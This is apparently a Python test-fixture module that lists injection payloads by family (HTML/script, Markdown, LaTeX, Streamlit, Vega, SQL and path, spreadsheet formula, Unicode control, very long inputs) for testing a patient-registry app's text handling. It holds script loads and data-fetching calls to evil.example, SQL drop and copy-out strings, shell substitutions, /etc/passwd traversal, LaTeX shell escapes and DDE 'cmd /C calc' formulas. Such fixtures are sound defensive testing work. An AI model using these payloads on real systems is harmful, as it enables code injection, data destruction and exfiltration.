"""Texts that would do something wherever they are taken for more than text, by what they are for.

What would run sets ``window.canary``; what would ask for anything asks ``evil.example``.
"""

import re

HTML = r"""
<script>window.canary=1</script>
<ScRiPt>window.canary=1</sCrIpT>
</script><script>window.canary=1</script>
<script src=//evil.example/x.js></script>
<script>alert(1)//
<<script>window.canary=1//<</script>
<img src=x onerror=window.canary=1>
<img src="http://evil.example/x.png">
<img src=x onerror="window['can'+'ary']=1">
<img/src=x/onerror=window.canary=1>
<IMG SRC=javascript:window.canary=1>
<img srcset="//evil.example/a 1x">
<svg onload=window.canary=1>
<svg><script>window.canary=1</script></svg>
<svg><a xlink:href="javascript:window.canary=1"><text y="9">x</text></a></svg>
<svg><animate onbegin=window.canary=1 attributeName=x dur=1s>
<svg><use href="//evil.example/x.svg#a"/></svg>
<math><mi xlink:href="javascript:window.canary=1">x</mi></math>
<iframe src="javascript:window.canary=1"></iframe>
<iframe srcdoc="<script>parent.canary=1</script>"></iframe>
<iframe src=//evil.example></iframe>
<object data="//evil.example"></object>
<embed src="//evil.example">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(//evil.example/x)}</style>
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=//evil.example">
<a href="javascript:window.canary=1">click</a>
<a href="http://evil.example">click</a>
<a href="data:text/html,<script>1</script>">click</a>
<form action=//evil.example><button>Go</button></form>
<input autofocus onfocus=window.canary=1>
<details open ontoggle=window.canary=1>
<video src=x onerror=window.canary=1></video>
<audio src=//evil.example/x.mp3 autoplay>
<body onload=window.canary=1>
<marquee onstart=window.canary=1>x</marquee>
<template><script>window.canary=1</script></template>
<noscript><p title="</noscript><img src=x onerror=window.canary=1>">
<textarea></textarea><script>window.canary=1</script>
</title><script>window.canary=1</script>
</style><script>window.canary=1</script>
--><script>window.canary=1</script>
]]><script>window.canary=1</script>
" onmouseover="window.canary=1
' onmouseover='window.canary=1
"><script>window.canary=1</script>
'><img src=x onerror=window.canary=1>
" autofocus onfocus=window.canary=1 x="
<p style="background:url(//evil.example/x)">x</p>
<div style="position:fixed;inset:0;z-index:9999">all</div>
<h1>Large</h1>
<b>bold</b>
<table><tr><td>x
<br><br><br>
&lt;script&gt;window.canary=1&lt;/script&gt;
&#60;script&#62;window.canary=1&#60;/script&#62;
&amp;&nbsp;&copy;&#x41;
<!-- gone -->
<?php echo 1 ?>
<% 1 %>
{{constructor.constructor('window.canary=1')()}}
${window.canary=1}
#{window.canary=1}
{{7*7}}
{%raw%}{{1}}{%endraw%}
javascript:window.canary=1
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=window.canary=1 )//
data:text/html;base64,PHNjcmlwdD53aW5kb3cuY2FuYXJ5PTE8L3NjcmlwdD4=
vbscript:msgbox(1)
';window.canary=1;//
";window.canary=1;//
\u003cscript\u003ewindow.canary=1\u003c/script\u003e
\x3cscript\x3ewindow.canary=1
"""

MARKDOWN = r"""
**strong**
__strong__
*slant*
_slant_
~~gone~~
`code`
```python
# Heading
> quote
- item
1. item
---
***
| a | b |
[link](http://evil.example)
[link](javascript:window.canary=1)
[link][1]
[1]: http://evil.example
![picture](http://evil.example/x.png)
![picture](x "onerror=window.canary=1")
<http://evil.example>
http://evil.example/path
www.evil.example
mallory@evil.example
[^1]
[ ] task
a\*b
\[x\](y)
H~2~O
x^2^
==marked==
[[wiki]]
@someone
#123
"""

LATEX = r"""
$x^2$
$$\int_0^1 x$$
\(x\)
\[x\]
\input{/etc/passwd}
\include{secret}
\write18{ls}
\immediate\write18{touch /tmp/x}
\href{http://evil.example}{x}
\url{javascript:window.canary=1}
\newcommand{\x}{\x\x}\x
\def\x{\x}\x
\catcode`\%=12
\end{tabular}\end{document}
\begin{verbatim}
\usepackage{shellesc}
\csname end\endcsname
\includegraphics{//evil.example/x}
\directlua{os.execute("ls")}
\\ \hline & & &
50% of {all} & more_or_less #1 ~ ^
^^5cinput
"""

STREAMLIT = r"""
:red[red]
:blue-background[x]
:rainbow[x]
:material/bolt:
:streamlit:
:smile:
:small[x]
:green-badge[x]
:violet[**x**]
:red[:material/bolt:]
:shortcode: :red[
:abbr[x]{title="y"}
::directive[x]{onclick="window.canary=1"}
:::note
:script[window.canary=1]
:color[x]{foreground="red" background="url(//evil.example)"}
:gray[:blue[x]]
"""

VEGA = r"""
datum.n_patients
datum['patient_id']
signal('width')
{"signal": "1+1"}
{"expr": "1+1"}
{"url": "http://evil.example/x.json"}
{"$schema": "https://vega.github.io/schema/vega-lite/v5.json"}
datum.__proto__.constructor('window.canary=1')()
constructor.constructor('window.canary=1')()
');window.canary=1;('
'+window.canary=1+'
"+window.canary=1+"
a.b.c
a[0]
a\.b
a\[0\]
['a']
__proto__
constructor
toString
hasOwnProperty
valueOf
href
url
%d.%m.%Y
.2f
null
undefined
NaN
true
Infinity
[object Object]
*
any
none
"""

SQL = r"""
' or 1=1 --
'; drop table registry.patients; --
' union select * from registry.patients --
$cohort
$1
:name
?
'' or ''='
"; delete from patient_facts; --
'); copy patient_facts to '/tmp/x'; --
/* comment */
-- comment
%
_
%%' escape '%
E'\x41'
$$x$$
{cohort}
{0}
{0.__class__}
%s
%(x)s
%n%n%n
${HOME}
$(touch /tmp/x)
`touch /tmp/x`
; ls
| ls
&& ls
../../../etc/passwd
..\..\boot.ini
/etc/passwd
C:\Windows\win.ini
\\evil.example\share
file:///etc/passwd
CON
NUL
COM1.csv
.htaccess
~root
-rf
--help
"""

FORMULAS = r"""
=1+1
+1+1
-1+1
@SUM(A1)
=cmd|' /C calc'!A0
=HYPERLINK("http://evil.example","x")
=IMPORTXML("http://evil.example","//a")
=WEBSERVICE("http://evil.example")
=DDE("cmd";"/C calc";"x")
+cmd|' /C calc'!A0
-cmd|' /C calc'!A0
@cmd|' /C calc'!A0
=A1
= 1+1
'=1+1
''=1+1
"=1+1"
;=1+1
,=1+1
=1+1;=1+1
#REF!
#N/A
{=1+1}
=IF(1,"a","b")
=10+20+cmd|' /C calc'!A0
＝1+1
1E5
007
1/2
2024-03-04
TRUE
"""

# Written as escapes, so that what can't be seen is seen here.
CONTROLS = (
    "\u202e\u0645\u0631\u062d\u0628\u0627 abc",
    "\u202eevil\u202c fdp.exe",
    "\u2066\u2067\u2068x\u2069",
    "\u200fright\u200eleft",
    "\u061cabc",
    "שלום עולם",
    "مرحبا بالعالم",
    "zero\u200bwidth",
    "zero\u200c\u200djoin",
    "word\u2060joiner",
    "\ufeffmark",
    "soft\u00adhyphen",
    "no\u00a0break",
    "line\u2028separator",
    "paragraph\u2029separator",
    "Z\u0351\u036b\u0343\u036a\u0302\u0338\u0328a\u0329\u0334l\u0336\u0317g\u0334o",
    "e\u0301 é",
    "ﬁ ﬀ Ⅳ ①",
    "𝕱𝖗𝖆𝖐𝖙𝖚𝖗",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U000e0041\U000e0042",
    "раураl",
    "İıſK",
    "\u3164",
    "\uffff",
    "\ufffe",
    "\U0010ffff",
)
CUT_OFF = (
    "\0",
    "a\0b",
    "\x00=1+1",
    "\x01\x02",
    "\x07bell",
    "\x1b[31mred",
    "a\x08b",
    "\x7f",
    "\x0c",
    "\x0b",
    "a\nb",
    "a\r\nb",
    "\r=1+1",
    "\t=1+1",
    "\x80 5",
    "patient\x92s",
    "\x85",
    " ",
    "",
)
LONG = ("x" * 10_000, "word " * 2_000, "<b>" * 3_000, "=1+" * 3_000 + "1", "ä" * 5_000)


def _lines(text: str) -> tuple[str, ...]:
    return tuple(text.strip("\n").split("\n"))


FAMILIES: dict[str, tuple[str, ...]] = {
    "HTML": _lines(HTML),
    "Markdown": _lines(MARKDOWN),
    "LaTeX": _lines(LATEX),
    "Streamlit": _lines(STREAMLIT),
    "Vega": _lines(VEGA),
    "SQL and paths": _lines(SQL),
    "formulas": _lines(FORMULAS),
    "writing": CONTROLS,
    "control characters": CUT_OFF,
    "long": LONG,
}
PAYLOADS = tuple(text for family in FAMILIES.values() for text in family)
# What no registry holds: DuckDB binds no NUL, and a text without a sign is no text.
UNHELD = re.compile(r"\0|^\s*$")
HELD = tuple(text for text in PAYLOADS if not UNHELD.search(text))


def some_of_each(n: int) -> tuple[str, ...]:
    """The first of every family."""
    return tuple(text for family in FAMILIES.values() for text in family[:n])
